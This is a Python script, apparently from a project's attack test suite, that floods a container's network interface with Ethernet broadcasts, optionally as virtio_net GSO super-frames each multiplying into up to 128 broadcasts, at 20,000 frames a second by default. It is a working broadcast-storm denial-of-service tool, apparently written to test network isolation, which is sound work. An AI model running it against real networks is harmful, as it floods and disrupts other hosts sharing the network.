# SPDX-License-Identifier: Apache-2.0
"""Send broadcasts, each of which becomes a copy for every other port and host of the network."""

import argparse
import ipaddress
import itertools
import socket
import struct

from tests.attacks import packet

ETH_P_IP = 0x0800
NEEDS_CSUM, GSO_UDP_L4 = 1, 5  # <linux/virtio_net.h>
SEGMENT = 64  # bytes
_HEADERS, _UDP, _CHECKSUM_AT = 34, 8, 6  # Ethernet and IPv4


def frame(mac: str) -> bytes:
    """A broadcast from this MAC address."""
    return packet.ethernet(mac, packet.BROADCAST, packet.LOCAL_EXPERIMENT, bytes(46))


def super_frame(mac: str, segments: int) -> bytes:
    """A virtio_net_hdr and a UDP super-frame that stands for so many broadcasts, 128 at most."""
    addresses = ("0.0.0.0", "255.255.255.255")  # noqa: S104  # nobody listens
    ip = packet.udp4(*addresses, (40000, 9), bytes(segments * SEGMENT))
    pseudo = b"".join(ipaddress.IPv4Address(address).packed for address in addresses)
    pseudo += struct.pack("!HH", socket.IPPROTO_UDP, _UDP + segments * SEGMENT)
    at = _HEADERS - 14 + _CHECKSUM_AT
    ip = ip[:at] + (~packet.checksum(pseudo) & 0xFFFF).to_bytes(2, "big") + ip[at + 2 :]
    vnet = struct.pack("=BBHHHH", NEEDS_CSUM, GSO_UDP_L4, _HEADERS + _UDP, SEGMENT, _HEADERS, _CHECKSUM_AT)
    return vnet + packet.ethernet(mac, packet.BROADCAST, ETH_P_IP, ip)


def main() -> None:
    """Send them."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.storm", description=__doc__)
    parser.add_argument("interface", help="the container's interface, e.g. eth0")
    parser.add_argument("--segments", type=int, default=1, help="in a super-frame, 1 to 128 (default: %(default)s)")
    parser.add_argument("--count", type=int, default=200_000, help="of frames (default: %(default)s)")
    parser.add_argument("--rate", type=float, default=20_000.0, help="frames a second (default: %(default)s)")
    given = parser.parse_args()
    mac, many = packet.mac_of(given.interface), given.segments > 1
    made = itertools.repeat(super_frame(mac, given.segments) if many else frame(mac), given.count)
    print(packet.stream(given.interface, made, given.rate, vnet=many), "broadcasts were sent")


if __name__ == "__main__":
    main()
